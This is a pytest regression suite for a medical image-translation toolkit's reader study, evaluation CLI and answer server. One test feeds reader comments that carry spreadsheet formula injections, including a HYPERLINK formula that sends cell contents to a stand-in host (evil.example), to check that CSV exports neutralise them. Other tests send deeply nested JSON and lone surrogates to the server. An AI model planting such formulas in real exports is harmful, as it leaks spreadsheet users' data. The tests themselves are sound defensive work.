"""Regression tests for the reader study (autotrans_turing) and autotrans_evaluate hardening.

Every test is named after the symptom it guards against. Real volumes come from the bundled demo data only
(autotrans/dataset/demo_data: PET stored at 0.01 SUV, integer-valued FLAIR), cropped small.
"""
from __future__ import annotations

import builtins
import errno
import http.client
import json
import logging
import math
import os
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from scipy.ndimage import gaussian_filter

from autotrans.cli.evaluate import main as evaluate_main
from autotrans.cli.turing import main as turing_main
from autotrans.dataset.demo import demo_data_dir
from autotrans.io import Geometry, read_image, write_image
from autotrans.turing import Study, SyntheticSource, create_study, make_server, render
from autotrans.turing.server import serve_in_thread
from autotrans.turing.store import AnswerStore

PET_CASES = ("CCTH-A01-slab0", "CCTH-A01-slab1", "CCTH-A01-slab2")
MR_CASES = ("MS-patient07", "MS-patient19", "TCGA-DU-7294")
DEMO = {
    "PET": ("Dataset902_DemoCTtoPET", PET_CASES, (slice(8, 24), slice(15, 47), slice(20, 52))),
    "MR": ("Dataset901_DemoT2toFLAIR", MR_CASES, (slice(25, 41), slice(25, 57), slice(20, 52))),
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# ---- helpers ------------------------------------------------------------------------------------------
def make_class_folders(root: Path, modality: str, crop: tuple[slice, ...] | None = None) -> tuple[Path, Path]:
    """Real demo targets (stored precision kept: 0.01 SUV PET, integer MR) and a smoothed float32 'model'."""
    name, cases, default_crop = DEMO[modality]
    crop = crop or default_crop
    real, syn = root / "real", root / "synthetic"
    real.mkdir(parents=True)
    syn.mkdir()
    for case in cases:
        arr, geo = read_image(demo_data_dir() / name / "targetsTr" / f"{case}.nii.gz")
        arr = np.ascontiguousarray(arr[crop])
        g = Geometry(size=arr.shape[::-1], spacing=geo.spacing, origin=geo.origin, direction=geo.direction)
        write_image(arr, g, real / f"{case}.nii.gz")
        write_image(gaussian_filter(arr.astype(np.float32), 0.7), g, syn / f"{case}.nii.gz")
    return real, syn


def class_codes(study: Study) -> dict[str, np.ndarray]:
    out = {}
    for truth in ("real", "synthetic"):
        out[truth] = np.concatenate([np.fromfile(study.item_path(i), dtype="<u2")
                                     for i, it in study.items.items() if it["truth"] == truth]).astype(np.int64)
    return out


def code_statistics(codes: np.ndarray, min_code: int) -> dict[str, Any]:
    """What a reader with the raw item bytes could measure without looking at the image."""
    u = np.unique(codes)
    gaps = np.diff(u)
    body = codes[codes >= min_code]  # away from the clipping at code 0
    return {
        "distinct_per_voxel": u.size / codes.size,
        "unit_gap_share": float(np.mean(gaps == 1)),
        "median_gap": float(np.median(gaps)),
        "last_digit": np.bincount(body % 10, minlength=10) / body.size,
    }


def leak_measures(study: Study, min_code: int) -> dict[str, float]:
    codes = class_codes(study)
    r, s = (code_statistics(codes[t], min_code) for t in ("real", "synthetic"))
    return {
        "distinct_ratio": r["distinct_per_voxel"] / s["distinct_per_voxel"],
        "unit_gap_diff": abs(r["unit_gap_share"] - s["unit_gap_share"]),
        "median_gap_diff": abs(r["median_gap"] - s["median_gap"]),
        "last_digit_tv": 0.5 * float(np.abs(r["last_digit"] - s["last_digit"]).sum()),
    }


def one_error_line(capsys: pytest.CaptureFixture, *words: str) -> str:
    err = [line for line in capsys.readouterr().err.strip().splitlines() if line.strip()]
    assert len(err) == 1, err
    assert "error" in err[0] and "Traceback" not in err[0], err[0]
    for w in words:
        assert w in err[0], (w, err[0])
    return err[0]


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def read_only(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """Make folders read-only. Root ignores permission bits, so for root every write below such a folder is
    refused as a read-only file system would (EROFS) — the same OSError the code meets in real life."""
    folders: list[Path] = []

    def under(path: Any) -> bool:
        try:
            p = Path(os.fsdecode(path)).resolve()
        except (TypeError, ValueError):
            return False
        return any(p == f or f in p.parents for f in folders)

    def refuse(path: Any) -> None:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), os.fsdecode(path))

    if os.geteuid() == 0:
        real_open, real_os_open, real_mkdir = builtins.open, os.open, os.mkdir
        real_replace, real_rename, real_unlink, real_rmdir = os.replace, os.rename, os.unlink, os.rmdir
        writes = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND

        def os_open(path, flags, *a, **k):  # noqa: ANN001, ANN002, ANN003
            if flags & writes and under(path):
                refuse(path)
            return real_os_open(path, flags, *a, **k)

        def b_open(file, mode="r", *a, **k):  # noqa: ANN001, ANN002, ANN003
            if not isinstance(file, int) and any(c in mode for c in "wax+") and under(file):
                refuse(file)
            return real_open(file, mode, *a, **k)

        def guard1(real):  # noqa: ANN001, ANN202
            def f(path, *a, **k):  # noqa: ANN001, ANN002, ANN003
                if under(path):
                    refuse(path)
                return real(path, *a, **k)
            return f

        def guard2(real):  # noqa: ANN001, ANN202
            def f(src, dst, *a, **k):  # noqa: ANN001, ANN002, ANN003
                if under(src) or under(dst):
                    refuse(dst)
                return real(src, dst, *a, **k)
            return f

        monkeypatch.setattr(os, "open", os_open)
        monkeypatch.setattr(builtins, "open", b_open)
        monkeypatch.setattr(os, "mkdir", guard1(real_mkdir))
        monkeypatch.setattr(os, "unlink", guard1(real_unlink))
        monkeypatch.setattr(os, "remove", guard1(real_unlink))
        monkeypatch.setattr(os, "rmdir", guard1(real_rmdir))
        monkeypatch.setattr(os, "replace", guard2(real_replace))
        monkeypatch.setattr(os, "rename", guard2(real_rename))

    def make(folder: Path) -> Path:
        folder.chmod(0o555)
        folders.append(folder.resolve())
        return folder

    yield make
    monkeypatch.undo()
    for f in folders:
        f.chmod(0o755)


@pytest.fixture(scope="module")
def pet_study_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hardening_study")
    crop = (slice(10, 18), slice(20, 36), slice(24, 40))  # 8 x 16 x 16: the study mechanics only
    real, syn = make_class_folders(root / "src", "PET", crop)
    out = root / "study"
    create_study(real, [SyntheticSource(syn, "smooth")], out, "PET", readers=["alice", "bob"], seed=3)
    return out


@pytest.fixture
def study(pet_study_template: Path, tmp_path: Path) -> Study:
    dst = tmp_path / "study"
    shutil.copytree(pet_study_template, dst)
    return Study.load(dst)


def answer_all(study: Study, comment: str = "") -> None:
    store = AnswerStore(study.db_path)
    for reader in study.readers:
        for i, item in enumerate(study.readers[reader]["order"]):
            store.save_answer(reader, item, "real" if i % 2 else "synthetic", 1 + i % 5, comment, 2.0)


# ---- 5: the values of an item must not tell its class ------------------------------------------------
def test_storage_step_finds_the_lattice_of_stored_values() -> None:
    rng = np.random.default_rng(0)
    pet = (np.round(rng.gamma(2.0, 1.0, 5000) * 100) / 100).astype(np.float32)  # 0.01 SUV
    assert render.storage_step(pet) == pytest.approx(0.01, rel=1e-4)
    assert render.storage_step(np.round(rng.normal(300, 80, 5000)).astype(np.int16)) == pytest.approx(1.0)
    assert render.storage_step(rng.normal(0, 1, 5000).astype(np.float32)) < 1e-5  # continuous: no lattice
    scaled = (np.round(rng.normal(300, 80, 5000)) * 0.0123 + 5.0).astype(np.float64)  # scl_slope/scl_inter
    assert render.storage_step(scaled) == pytest.approx(0.0123, rel=1e-4)


@pytest.mark.parametrize("modality, min_code", [("PET", 100), ("MR", 11000)])
def test_item_values_do_not_reveal_real_storage_precision(modality: str, min_code: int, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Real PET at 0.01 SUV used only every tenth display code, integer MR left wide regular code gaps,
    synthetic floats did not. Compare what a reader could compute from the item bytes, per class."""
    real, syn = make_class_folders(tmp_path / "src", modality)

    def build(name: str) -> Study:
        return create_study(real, [SyntheticSource(syn, "smooth")], tmp_path / name, modality, seed=11)

    # control: the statistics do see the leak when every item is rounded without the common dither
    with monkeypatch.context() as m:
        m.setattr(render, "dither_sd", lambda steps, modality: 0.0)
        leaky = leak_measures(build("undithered"), min_code)
    assert leaky["distinct_ratio"] < 0.3 and leaky["unit_gap_diff"] > 0.5, leaky
    if modality == "PET":
        real_codes = class_codes(Study.load(tmp_path / "undithered"))["real"]
        assert np.all(real_codes % 10 == 0) and leaky["last_digit_tv"] > 0.8

    study = build("study")
    m = leak_measures(study, min_code)
    assert 0.75 < m["distinct_ratio"] < 1.33, m
    assert m["unit_gap_diff"] < 0.1 and m["median_gap_diff"] == 0, m
    assert m["last_digit_tv"] < 0.05, m
    assert not np.all(class_codes(study)["real"] % 10 == 0)
    # one quantisation for every item: the dither level is the coarsest storage step (at least one code)
    expected = 0.01 if modality == "PET" else None
    sd = study.meta["display_dither_sd"]
    assert sd >= render.ENCODING[modality][1]
    if expected is not None:
        assert sd == pytest.approx(expected, rel=1e-3)
    # and what the reader sees stays the volume: the dither is far below any window's resolution
    assert sd < 0.02 * min(p["width"] for p in render.PRESETS[modality])


# ---- 6: a study given twice is counted once ----------------------------------------------------------
def test_analyze_counts_a_study_given_twice_once(study: Study, tmp_path: Path, capsys: pytest.CaptureFixture,
                                                 monkeypatch: pytest.MonkeyPatch,
                                                 caplog: pytest.LogCaptureFixture) -> None:
    answer_all(study)
    n = sum(len(r["order"]) for r in study.readers.values())
    assert turing_main(["analyze", str(study.folder), "-o", str(tmp_path / "once")]) == 0
    once = json.loads((tmp_path / "once" / "summary.json").read_text())
    assert once["n_ratings"] == n

    copy = tmp_path / "copy_of_study"
    shutil.copytree(study.folder, copy)
    monkeypatch.chdir(study.folder.parent)
    spellings = [str(study.folder), str(study.folder) + "/", os.path.relpath(study.folder), str(copy)]
    with caplog.at_level(logging.INFO, logger="autotrans.turing"):
        assert turing_main(["analyze", *spellings, "-o", str(tmp_path / "twice")]) == 0
    twice = json.loads((tmp_path / "twice" / "summary.json").read_text())
    assert twice["n_ratings"] == n and twice["n_readers"] == once["n_readers"]
    assert twice["overall"] == once["overall"]
    counted_once = [r.getMessage() for r in caplog.records if "counted once" in r.getMessage()]
    assert len(counted_once) == 3, counted_once
    ids = {Study.load(p).identity for p in spellings}
    assert len(ids) == 1 and "study_id" in study.meta


# ---- 15: hidden leftovers of a killed run are not inputs; create's own temporary is named by pid --------
def test_create_ignores_hidden_temp_files_left_by_kill(tmp_path: Path) -> None:
    crop = (slice(10, 14), slice(20, 28), slice(24, 32))
    real, syn = make_class_folders(tmp_path / "src", "PET", crop)
    (syn / f".{PET_CASES[0]}.nii.gz.at{os.getpid()}.k9x2.nii.gz").write_bytes(b"half a volume")  # killed predict
    (real / ".DS_Store").write_bytes(b"\0")
    (real / ".~lock.nii.gz").write_bytes(b"")
    stale = tmp_path / ".study.at999999999.abc123"  # a 'create' killed with -9: dead pid, own pattern
    stale.mkdir()
    (stale / "study.json").write_text("{}")
    study = create_study(real, [SyntheticSource(syn, "m")], tmp_path / "study", "PET", seed=1)
    assert len(study.items) == 6
    assert not any(Path(it["source"]).name.startswith(".") for it in study.items.values())
    assert not stale.exists(), "the stale temporary folder of a killed create is removed"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_create_temporary_folder_carries_the_pid(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import tempfile

    from autotrans.turing import study as study_mod
    from autotrans.utils.files import _TEMP_RE

    crop = (slice(10, 14), slice(20, 28), slice(24, 32))
    real, syn = make_class_folders(tmp_path / "src", "PET", crop)
    made: list[str] = []
    real_mkdtemp = tempfile.mkdtemp

    def spy(*a: Any, **k: Any) -> str:
        made.append(real_mkdtemp(*a, **k))
        return made[-1]

    monkeypatch.setattr(study_mod.tempfile, "mkdtemp", spy)
    create_study(real, [SyntheticSource(syn, "m")], tmp_path / "out" / "st", "PET", seed=1)
    assert len(made) == 1
    m = _TEMP_RE.match(Path(made[0]).name)
    assert m and m.group("pid") == str(os.getpid()) and m.group("name") == "st"


# ---- 16: autotrans_evaluate: lesion labels, strict JSON, alpha ------------------------------------------
SHAPE = (8, 10, 12)


def _geo() -> Geometry:
    return Geometry(size=SHAPE[::-1], spacing=(2.0, 2.0, 2.0), origin=(0.0, 0.0, 0.0),
                    direction=(1.0, 0, 0, 0, 1.0, 0, 0, 0, 1.0))


def make_eval(root: Path, cases: tuple[str, ...] = ("c1", "c2", "c3"), perfect: tuple[str, ...] = (),
              lesion_value: float = 1.0) -> dict[str, Path]:
    rng = np.random.default_rng(0)
    d = {k: root / k for k in ("ref", "pred", "les")}
    for p in d.values():
        p.mkdir(parents=True, exist_ok=True)
    for case in cases:
        ref = rng.normal(0, 200, SHAPE).astype(np.float32)
        pred = ref if case in perfect else (ref + rng.normal(0, 20, SHAPE)).astype(np.float32)
        les = np.zeros(SHAPE, np.float32)
        les[2:5, 3:6, 3:6] = lesion_value
        write_image(ref, _geo(), d["ref"] / f"{case}.nii.gz")
        write_image(pred, _geo(), d["pred"] / f"{case}.nii.gz")
        write_image(les, _geo(), d["les"] / f"{case}.nii.gz")
    return d


def strict_load(path: Path) -> Any:
    def refuse(const: str) -> None:
        raise AssertionError(f"{path.name}: {const} is not JSON")

    return json.loads(path.read_text(), parse_constant=refuse)


@pytest.mark.parametrize("label", [-2.0, 1.5])
def test_evaluate_refuses_lesion_labels_the_dataset_check_refuses(label: float, tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture) -> None:
    from autotrans.dataset.integrity import lesion_label_problem

    assert lesion_label_problem(np.array([0.0, label])) is not None  # the dataset check's rule
    d = make_eval(tmp_path, cases=("c1",), lesion_value=label)
    out = tmp_path / "res" / "eval.json"
    assert evaluate_main(["-ref", str(d["ref"]), "-pred", str(d["pred"]), "-lesions", str(d["les"]),
                          "-modality", "PET", "-o", str(out)]) == 1
    one_error_line(capsys, "c1", "non-negative integer labels")
    assert not out.exists()


def test_perfect_prediction_psnr_is_strict_json_null_with_a_flag(tmp_path: Path) -> None:
    d = make_eval(tmp_path, perfect=("c1",))
    out = tmp_path / "eval.json"
    assert evaluate_main(["-ref", str(d["ref"]), "-pred", str(d["pred"]), "-lesions", str(d["les"]),
                          "-modality", "CT", "-o", str(out)]) == 0
    res = strict_load(out)  # no Infinity / NaN tokens anywhere
    assert res["cases"]["c1"]["psnr"] is None and res["cases"]["c1"]["psnr_infinite"] is True
    assert math.isfinite(res["cases"]["c2"]["psnr"]) and "psnr_infinite" not in res["cases"]["c2"]
    assert res["aggregate"]["psnr"]["max"] is None and res["aggregate"]["psnr"]["max_infinite"] is True
    assert res["cases"]["c1"]["mae"] == 0.0
    # what --compare reads back is the number the evaluation produced
    from autotrans.evaluation.strict_json import load_results

    assert load_results(out)["cases"]["c1"]["psnr"] == math.inf
    other = tmp_path / "other.json"
    shutil.copyfile(out, other)
    cmp = tmp_path / "cmp.json"
    assert evaluate_main(["--compare", str(out), str(other), "--names", "a", "b", "-o", str(cmp)]) == 0
    comparison = strict_load(cmp)
    assert comparison["metrics"]["psnr"]["dropped_cases"] == ["c1"]  # non-finite: left out, as documented
    assert comparison["metrics"]["mae"]["n_cases"] == 3


@pytest.mark.parametrize("alpha", ["2", "0", "1", "-0.1", "nan"])
def test_evaluate_refuses_alpha_outside_zero_one(alpha: str, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    out = tmp_path / "cmp.json"
    rc = evaluate_main(["--compare", str(tmp_path / "a.json"), str(tmp_path / "b.json"), "--alpha", alpha,
                        "-o", str(out)])
    assert rc == 1
    one_error_line(capsys, "--alpha", "between 0 and 1")
    assert not out.exists()
    from autotrans.errors import ConfigurationError
    from autotrans.evaluation import compare_runs

    with pytest.raises(ConfigurationError, match="alpha"):
        compare_runs([{"cases": {}}, {"cases": {}}], alpha=float(alpha))


# ---- 18: the reader server answers 400, not 500, and keeps working ------------------------------------
def _post(port: int, token: str, body: bytes) -> tuple[int, dict[str, Any]]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.request("POST", "/api/answer", body=body, headers={"Authorization": f"Bearer {token}",
                                                                 "Content-Type": "application/json"})
        r = conn.getresponse()
        return r.status, json.loads(r.read())
    finally:
        conn.close()


@pytest.fixture
def served(study: Study) -> Iterator[tuple[Study, int]]:
    srv = make_server(study, "127.0.0.1", 0)
    serve_in_thread(srv)
    try:
        yield study, srv.server_address[1]
    finally:
        srv.shutdown()
        srv.server_close()


def test_server_answers_400_to_deeply_nested_json(served: tuple[Study, int]) -> None:
    study, port = served
    tok = study.readers["alice"]["token"]
    for body in ("[" * 5000 + "]" * 5000, '{"item": ' + "[" * 3000 + "]" * 3000 + "}"):
        status, reply = _post(port, tok, body.encode())
        assert status == 400 and reply["error"].startswith("body"), reply
    item = study.readers["alice"]["order"][0]
    ok = {"item": item, "answer": "real", "confidence": 3, "time_on_item_s": 1.0}
    assert _post(port, tok, json.dumps(ok).encode())[0] == 201  # still serving, answer kept
    assert item in AnswerStore(study.db_path).answered("alice")


def test_server_answers_400_to_a_comment_with_a_lone_surrogate(served: tuple[Study, int]) -> None:
    study, port = served
    tok = study.readers["alice"]["token"]
    item = study.readers["alice"]["order"][0]
    for lone in ("\\ud800", "abc\\udfff", "\\udc00\\ud800"):
        body = ('{"item": "%s", "answer": "real", "confidence": 3, "time_on_item_s": 1, "comment": "%s"}'
                % (item, lone)).encode()
        status, reply = _post(port, tok, body)
        assert status == 400 and reply["error"].startswith("comment:"), reply
    assert AnswerStore(study.db_path).answered("alice") == set()
    # the reader can send the same answer again (a real surrogate pair is fine) and it is kept
    good = {"item": item, "answer": "real", "confidence": 3, "time_on_item_s": 1.0, "comment": "ok \U0001F600"}
    assert _post(port, tok, json.dumps(good).encode())[0] == 201
    assert AnswerStore(study.db_path).all_answers()[0]["comment"] == "ok \U0001F600"


# ---- 19: no reader text becomes a spreadsheet formula ----------------------------------------------------
def test_reader_comment_formula_is_neutralised_in_every_csv(study: Study, tmp_path: Path) -> None:
    import csv

    from autotrans.turing.analysis import analyze_studies

    comments = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1", "plain words", "x=1"]
    store = AnswerStore(study.db_path)
    order = study.readers["alice"]["order"]
    for item, text in zip(order, comments, strict=False):
        store.save_answer("alice", item, "real", 2, text, 3.0)
    out = tmp_path / "report"
    analyze_studies([study.folder], out)
    with open(out / "answers.csv", newline="", encoding="utf-8") as f:
        written = {row["item"]: row["comment"] for row in csv.DictReader(f)}
    for item, text in zip(order, comments, strict=False):
        expect = "'" + text if text.startswith(FORMULA_STARTS) else text
        assert written[item] == expect
    for path in out.glob("*.csv"):  # every CSV of the report: text cells never start a formula
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    if cell.startswith(FORMULA_STARTS):
                        float(cell)  # only numbers such as -0.25 may start with '-' (a number, not text)


# ---- 13: one line, exit 1, data intact -------------------------------------------------------------------
def test_evaluate_output_that_is_a_folder_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    d = make_eval(tmp_path, cases=("c1",))
    target = tmp_path / "results"
    target.mkdir()
    (target / "keep.json").write_text('{"old": 1}')
    assert evaluate_main(["-ref", str(d["ref"]), "-pred", str(d["pred"]), "-modality", "CT", "-o", str(target)]) == 1
    one_error_line(capsys, str(target), "is a folder")
    assert snapshot(target) == {"keep.json": b'{"old": 1}'}


@pytest.mark.parametrize("content, words", [
    (b"{not json", "not valid JSON"),
    (b"\xff\xfe garbage", "not valid JSON"),
    (b"[1, 2, 3]", "not an autotrans_evaluate result"),
    (b'{"cases": [1]}', "not an autotrans_evaluate result"),
    (None, "no such file"),
])
def test_compare_with_a_bad_json_file_is_one_line(content: bytes | None, words: str, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture) -> None:
    d = make_eval(tmp_path, cases=("c1", "c2"))
    good = tmp_path / "good.json"
    assert evaluate_main(["-ref", str(d["ref"]), "-pred", str(d["pred"]), "-modality", "CT", "-o", str(good)]) == 0
    capsys.readouterr()
    bad = tmp_path / "bad.json"
    if content is not None:
        bad.write_bytes(content)
    out = tmp_path / "cmp.json"
    assert evaluate_main(["--compare", str(good), str(bad), "-o", str(out)]) == 1
    one_error_line(capsys, str(bad), words)
    assert not out.exists()


@pytest.fixture
def never_serve(monkeypatch: pytest.MonkeyPatch) -> None:
    """A regression must fail fast, not serve forever."""
    from autotrans.turing.server import TuringServer

    def refuse(self: Any, *a: Any, **k: Any) -> None:
        raise AssertionError("the command should have stopped before serving")

    monkeypatch.setattr(TuringServer, "serve_forever", refuse)


@pytest.mark.parametrize("port", ["99999", "-1", "65536"])
def test_serve_invalid_port_is_one_line(port: str, study: Study, capsys: pytest.CaptureFixture,
                                        never_serve: None) -> None:
    assert turing_main(["serve", str(study.folder), "--port", port]) == 1
    one_error_line(capsys, f"--port {port}", "1 to 65535")


def test_serve_port_in_use_is_one_line(study: Study, capsys: pytest.CaptureFixture, never_serve: None) -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen()
        port = sock.getsockname()[1]
        assert turing_main(["serve", str(study.folder), "--port", str(port)]) == 1
    one_error_line(capsys, "cannot listen", str(port), "another --port")


@pytest.mark.parametrize("command", ["serve", "analyze"])
@pytest.mark.parametrize("kind", ["junk", "folder"])
def test_junk_or_folder_answers_sqlite_is_one_line(command: str, kind: str, study: Study, tmp_path: Path,
                                                   capsys: pytest.CaptureFixture, never_serve: None) -> None:
    db = study.db_path
    for f in (db, db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")):
        f.unlink(missing_ok=True)
    if kind == "junk":
        db.write_bytes(b"this is not a database, but someone's notes\n" * 20)
    else:
        db.mkdir()
        (db / "inside.txt").write_text("keep me")
    before = snapshot(study.folder)
    argv = ["serve", str(study.folder), "--port", "1"] if command == "serve" else \
        ["analyze", str(study.folder), "-o", str(tmp_path / "rep")]
    assert turing_main(argv) == 1
    one_error_line(capsys, str(db), "folder" if kind == "folder" else "not a usable answer database")
    assert snapshot(study.folder) == before  # the junk file / folder is left exactly as it was
    assert not (tmp_path / "rep").exists() or not any((tmp_path / "rep").iterdir())


def test_analyze_to_a_read_only_folder_is_one_line(study: Study, tmp_path: Path, read_only: Any,
                                                   capsys: pytest.CaptureFixture) -> None:
    answer_all(study)
    out = tmp_path / "report"
    out.mkdir()
    (out / "report.html").write_text("an earlier report")
    read_only(out)
    assert turing_main(["analyze", str(study.folder), "-o", str(out)]) == 1
    one_error_line(capsys, str(out), "cannot write")
    assert snapshot(out) == {"report.html": b"an earlier report"}


def test_emit_slurm_to_a_read_only_folder_is_one_line(roots: dict[str, Path], tmp_path: Path, read_only: Any,
                                                      capsys: pytest.CaptureFixture) -> None:
    from autotrans.cli.benchmark import main as benchmark_main
    from tests.conftest import install_demo_copy

    install_demo_copy(roots["autotrans_raw"], "Dataset901_DemoT2toFLAIR", 21)
    out = tmp_path / "slurm"
    out.mkdir()
    (out / "tasks.txt").write_text("an earlier grid\n")
    read_only(out)
    assert benchmark_main(["-d", "21", "-m", "pix2pix", "-f", "0", "-device", "cpu", "--emit_slurm", str(out)]) == 1
    one_error_line(capsys, str(out), "cannot write")
    assert snapshot(out) == {"tasks.txt": b"an earlier grid\n"}


def test_benchmark_report_reads_strict_evaluation_json_back_as_numbers(tmp_path: Path) -> None:
    """The benchmark report pools evaluation.json files: the strict nulls must come back as inf / NaN."""
    from autotrans.benchmark.report import pool, task_folder
    from autotrans.evaluation.folders import write_results

    r = {"dataset": "D", "model": "m", "plans_name": "p", "configuration": "c", "fold": "0",
         "evaluation": "evaluation.json", "evaluation_lesions": "evaluation_lesions.json"}
    folder = task_folder(tmp_path, r)
    write_results({"cases": {"a": {"psnr": math.inf, "ssim": math.nan, "mae": 1.0}},
                   "aggregate": {"psnr": {"mean": math.inf, "n": 1}}}, folder / "evaluation.json")
    write_results({"cases": {}, "aggregate": {}, "lesions": {"a": [{"lesion": 1, "dice": math.nan}]}},
                  folder / "evaluation_lesions.json")
    strict_load(folder / "evaluation.json")
    entry = pool(tmp_path, [r])["D"]["m"]
    case = entry["cases"]["a"]
    assert case["psnr"] == math.inf and math.isnan(case["ssim"]) and case["mae"] == 1.0
    assert set(case) == {"psnr", "ssim", "mae"}  # the flags are read, not passed on as metrics
    assert math.isnan(entry["lesions"][0]["dice"])
